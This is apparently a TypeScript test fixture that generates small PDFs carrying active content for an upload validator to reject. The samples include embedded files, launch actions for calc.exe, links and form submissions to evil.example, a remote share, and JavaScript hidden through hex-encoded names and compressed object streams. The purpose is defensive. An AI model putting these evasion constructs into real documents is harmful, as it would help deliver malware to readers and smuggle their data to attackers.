import { deflateSync } from 'node:zlib';
import { assemble } from '../../../shared/outside/pdf/simple-pdf.ts';
import type { BadFile } from './bad-pictures.ts';

const pages = ['<< /Type /Pages /Count 1 /Kids [3 0 R] >>'];
const page = (more = '') => `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] ${more} >>`;
const click = (action: string) => page(`/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << ${action} >> >>]`);
const program = '<< /Length 2 >>\nstream\nMZ\nendstream';

/** A document of one page with this in its catalog, on its page, and as its further objects. */
export const pdfWith = (catalog: string, onPage = page(), ...more: string[]): Uint8Array =>
  assemble([`<< /Type /Catalog /Pages 2 0 R ${catalog} >>`, ...pages, onPage, ...more], '/Root 1 0 R');

/** PDF files that carry other files, or open them. */
export function badPdf(): BadFile[] {
  const rows: [title: string, bytes: Uint8Array][] = [
    ['an attachment', pdfWith('/Names << /EmbeddedFiles << /Names [(a) << /EF << /F 4 0 R >> >>] >> >>', page(), program)],
    ['an attachment without a list of names', pdfWith('', page(), '<< /EF << /F 5 0 R >> >>', program)],
    ['associated files', pdfWith('/AF [<< /F (a.exe) >>]')],
    ['an attachment on its page', pdfWith('', page('/Annots [<< /Subtype /FileAttachment /Rect [0 0 9 9] >>]'))],
    ['a share that opens with it', pdfWith('/OpenAction << /S /GoToR /F (\\\\\\\\evil\\\\share\\\\a.pdf) /D [0 /Fit] >>')],
    ['a web page that opens with it', pdfWith('/OpenAction << /S /URI /URI (http://evil.example/) >>')],
    ['a rendition', pdfWith('', click('/S /Rendition /OP 0'))],
    ['a stream that lies elsewhere', pdfWith('', page(), '<< /Length 0 /F (http://evil.example/x) >>\nstream\n\nendstream')],
    ['a link to a file', pdfWith('', click('/S /URI /URI (file://evil/share)'))],
    ['a link to a script', pdfWith('', click('/S /URI /URI (javascript:alert\\(1\\))'))],
    ['a program behind a link', pdfWith('', click('/S /Launch /F (calc.exe)'))],
    ['a second action', pdfWith('', click('/S /GoTo /D [3 0 R /Fit] /Next << /S /Hide >>'))],
    ['an action elsewhere', pdfWith('/OpenAction 4 0 R', page(), '<< /S 5 0 R >>', '/ResetForm')],
    ['a form that is sent', pdfWith('', click('/S /SubmitForm /F (https://evil.example/)'))],
    ['a form that loads its data', pdfWith('', click('/S /ImportData /F (a.fdf)'))],
    ['an attachment that opens', pdfWith('/OpenAction << /S /GoToE /T << /R /C /N (a) >> >>')],
    ['a form in XML', pdfWith('/AcroForm << /Fields [] /XFA 4 0 R >>', page(), '<< /Length 6 >>\nstream\n<xdp/>\nendstream')],
    ['a flash film', pdfWith('', page('/Annots [<< /Subtype /RichMedia /Rect [0 0 9 9] >>]'))],
    ['a program, written in hex', pdfWith('/OpenAction << /S /#4c#61unc#68 /F (calc.exe) >>')],
    ['a film', pdfWith('', page('/Annots [<< /Subtype /Movie /Rect [0 0 9 9] >>]'))],
    ['what happens when its page is shown', pdfWith('', page('/AA << /O << /S /GoTo >> >>'))],
  ];
  return [...rows, ...scripts()].map(([title, bytes]) => ({
    title: `a PDF with ${title}`,
    purpose: 'agreement',
    fileName: 'agreement.pdf',
    bytes,
    codes: ['active_content'],
  }));
}

const script = '/S /JavaScript /JS (app.alert\\(1\\))';

/** Everywhere a script can stand, and every way to write that it is one. */
function scripts(): [title: string, bytes: Uint8Array][] {
  const hex = (name: string) => [...name].map((sign) => `#${sign.charCodeAt(0).toString(16)}`).join('');
  const elsewhere = [page(), `<< ${script} >>`] as const;
  return [
    ['a script that opens with it', pdfWith(`/OpenAction << ${script} >>`)],
    ['a script among its names', pdfWith('/Names << /JavaScript << /Names [(a) 4 0 R] >> >>', ...elsewhere)],
    ['a script all in hex', pdfWith(`/OpenAction << /S /${hex('JavaScript')} /JS (x) >>`)],
    ['a script whose names are all in hex', pdfWith(`/OpenAction << /${hex('S')} /${hex('JavaScript')} /${hex('JS')} (x) >>`)],
    ['a script in a stream', pdfWith('', click('/S /JavaScript /JS 4 0 R'), '<< /Length 1 >>\nstream\nx\nendstream')],
    ['a script that nothing refers to', pdfWith('', ...elsewhere)],
    ['a script in an object that a later one takes the place of', pdfWith('', page(), `<< ${script} >>\nendobj\n4 0 obj\n<< >>`)],
    ['a script in an object stream', pdfWith('', page(), objectStream(`<< ${script} >>`))],
    ['a script in hex in an object stream', pdfWith('', page(), objectStream('<< /S /Java#53cript /JS (x) >>'))],
    ['a script when its page is shown', pdfWith('', page(`/AA << /O << ${script} >> >>`))],
    ['a script when it is closed', pdfWith(`/AA << /WC << ${script} >> >>`)],
    ['a script behind a field', pdfWith('', page(`/Annots [<< /Subtype /Widget /Rect [0 0 9 9] /AA << /K << ${script} >> >> >>]`))],
    ['a script behind another action', pdfWith('', click(`/S /GoTo /D [3 0 R /Fit] /Next << ${script} >>`))],
  ];
}

/** Object 9 in a compressed stream. */
function objectStream(object: string): string {
  const data = deflateSync(Buffer.from(`9 0 ${object}`)).toString('latin1');
  return `<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${data.length} >>\nstream\n${data}\nendstream`;
}

/** What ordinary documents have: links, an outline, a place to open at, a form without scripts. */
export const richPdf = (): Uint8Array =>
  pdfWith(
    '/OpenAction [3 0 R /Fit] /Outlines 4 0 R /PageMode /UseOutlines /Lang (zh-CN) /MarkInfo << /Marked true >> /AcroForm << /Fields [6 0 R] >> /Names << /Dests << /Names [] >> >>',
    page(
      '/Annots [6 0 R << /Type /Annot /Subtype /Link /Rect [0 0 9 9] /F 4 /A << /S /URI /URI (https://docs.example.com/) >> >> << /Subtype /Link /Rect [0 0 9 9] /Dest [3 0 R /Fit] >>] /Tabs /S',
    ),
    '<< /Type /Outlines /First 5 0 R /Last 5 0 R /Count 1 >>',
    '<< /Title (One) /Parent 4 0 R /A << /S /GoTo /D [3 0 R /Fit] >> >>',
    '<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /Rect [0 0 9 9] /F 4 >>',
  );
